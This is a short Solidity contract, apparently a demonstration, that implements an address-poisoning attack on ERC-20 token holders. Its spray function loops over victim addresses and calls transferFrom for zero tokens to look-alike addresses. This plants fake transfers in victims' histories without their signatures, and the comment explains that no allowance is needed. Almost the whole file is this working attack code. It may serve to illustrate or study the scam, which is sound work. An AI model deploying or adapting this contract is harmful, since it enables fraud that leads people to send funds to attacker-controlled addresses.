// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20From {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// What address poisoners deploy: one transaction "moves" 0 tokens out of many victims'
/// addresses to look-alikes of the addresses they really paid. A transferFrom of 0 needs
/// no allowance, so no victim signs anything.
contract DemoPoisoner {
    function spray(address token, address[] calldata victims, address[] calldata lookalikes) external {
        for (uint256 i = 0; i < victims.length; i++) IERC20From(token).transferFrom(victims[i], lookalikes[i], 0);
    }
}
